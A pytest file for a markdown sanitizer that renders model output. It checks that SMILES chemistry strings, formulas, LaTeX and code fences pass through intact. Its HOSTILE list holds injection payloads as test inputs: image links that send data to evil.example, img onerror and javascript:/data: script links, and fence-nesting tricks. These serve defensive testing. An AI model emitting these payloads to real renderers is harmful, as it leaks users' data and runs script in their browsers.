"""What a model writes: SMILES arrive whole, and nothing but text, code, LaTeX and honest links reaches the page."""

from __future__ import annotations

import time

import pytest
from markdown_it import MarkdownIt

from app.ui.markdown import is_smiles_like, safe_markdown

# From PubChem (isomeric or connectivity SMILES) or OpenSMILES' own examples.
SMILES = (
    "C[C@H](N)C(=O)O", "*CC", "*CC*", "[Na+].[Cl-]", "C1=CC=C(C=C1)O", "N#Cc1ccccc1", r"C\C=C\C", r"F/C=C\F",
    "CC(=O)Oc1ccccc1C(=O)O", "CN1C=NC2=C1C(=O)N(C(=O)N2C)C", r"C/C=C\[C@H](C)O", "[13CH4]", "[NH4+]", "C[Si](C)(C)C",
    "c1ccccc1", "CCO.CC(=O)O>>CC(=O)OCC", "[Fe+2]", "O=C(O)c1ccc2[nH]ccc2c1", "C%12CC%12", "[CH3:1][OH:2]",
)  # fmt: skip
WORDS = (
    "NaCl", "H2O", "C6H12O6", "and/or", "I/O", "N/A", "CO2", "C-H", "SN2", "COX-1", "CH3(CH2)4CH3", "p53", "B12", "Sn1",
    "(CO)", "*important*", "**Bold**", "[1]", "[CO]", "PCR", "No.", "1:1", "10%", "C:N", "kcal/mol",
)  # fmt: skip


@pytest.mark.parametrize("smiles", SMILES)
def test_a_smiles_in_a_sentence_is_shown_letter_for_letter(smiles: str) -> None:
    assert is_smiles_like(smiles)
    tokens = MarkdownIt("commonmark").parse(safe_markdown(f"It is ({smiles}), said **{smiles}**."))
    shown = "".join(token.content for token in tokens[1].children or [])
    if "\\[" in smiles:  # an element with entities there, so that LaTeX cannot take it
        assert "<code>" in safe_markdown(smiles)
    else:
        assert shown == f"It is ({smiles}), said {smiles}."


@pytest.mark.parametrize("word", WORDS)
def test_words_and_formulas_are_no_smiles(word: str) -> None:
    assert safe_markdown(f"see {word} here") == f"see {word} here"


HOSTILE = (
    "![x](http://evil.example/?q=secret)", "![x\n](http://evil.example)", "![x][r]\n\n[r]: http://evil.example",
    "[![x](http://evil.example)](http://evil.example)", "<img src=http://evil.example onerror=alert(1)>",
    "<form action=http://evil.example><input></form>", "<div style='position:fixed'>x</div>", "<style>*{}</style>",
    "[x](javascript:alert(1))", "[x$](javascript:alert(1))", "[x https://a](javascript:alert(1))", "<javascript:a>",
    "[t](http://a![x](http://evil.example)", "`a\n`<img src=x>`", "| a |\n|--|\n| `a | <img src=x>` |",
    "- ```\n  a\n<img src=x>\n```\n<img src=x>", "para\n    ```\n    <img src=x>", "> ```\n<img src=x>\n",
    "<sub>\n```\n<img src=x>\n```", "$$\n```\n$$<img src=x>\n```", "~~~\n```\n~~~\n<img src=x>",
    "[x]:\njavascript:alert(1)\n\n[x]",
    "``` `\n<img src=x>", "<!-- \n-->\n<img src=x>", "<![CDATA[ <img src=x> ]]>",
    "[x](data:text/html,<script>1</script>)",
    "\\`<img src=x>`", "C=C``<img src=x>``", "~~~ `\n<img src=x>`",
)  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_no_image_no_tag_and_no_script_link_is_left_at_any_moment_of_the_stream(text: str) -> None:
    reader = MarkdownIt("commonmark").enable("table")
    for end in range(1, len(text) + 1):
        tokens = reader.parse(safe_markdown(text[:end]))
        for token in [one for block in tokens for one in (block, *(block.children or []))]:
            assert token.type != "image"
            if token.type in {"html_inline", "html_block"}:
                assert token.content.startswith(("<sub>", "</sub>", "<code>", "</code>", "<pre><code>"))
                assert "<img" not in token.content
            if token.type == "link_open":
                assert str(token.attrs["href"]).startswith(("http://", "https://", "mailto:"))


def test_an_image_becomes_its_words_and_its_address() -> None:
    assert safe_markdown("![plot](http://example.org/p.png)") == "plot (`http://example.org/p.png`)"


def test_a_link_says_where_it_leads() -> None:
    assert safe_markdown("[your bank](https://evil.example/x)") == "[your bank](https://evil.example/x) (evil.example)"


def test_fenced_code_is_left_alone_and_an_open_fence_is_closed() -> None:
    code = "```python\nx = '<b>' + \"C=C\"  # [a](b)\n```"
    assert safe_markdown(code) == code
    assert safe_markdown(code[:-4]) == code


def test_subscripts_and_prices_stay_and_inline_latex_gets_delimiters_that_are_not_money() -> None:
    text = r"H<sub>2</sub>O costs $5 and $6, and \(a+b\) and $$x^2$$ and `CCO`."
    assert safe_markdown(text) == text
    assert safe_markdown("Einstein: $E=mc^2$") == r"Einstein: \(E=mc^2\)"


def test_rewriting_a_fence_twice_changes_nothing_more() -> None:
    once = safe_markdown("- ```\n  C=C\n  ```\nand `CCO`")
    assert safe_markdown(once) == once


@pytest.mark.parametrize(
    "piece",
    ["`", "[", "$", "C(", "\\[ a ", "![a", "<", "$a ", "\\(a ", "**", "C1", "``` ", "[Na", "[a](", "$x_ ", "(C"],
)
def test_no_repetition_takes_more_than_a_moment(piece: str) -> None:
    text = piece * (50_000 // len(piece))
    started = time.perf_counter()
    safe_markdown(text)
    assert time.perf_counter() - started < 1.0
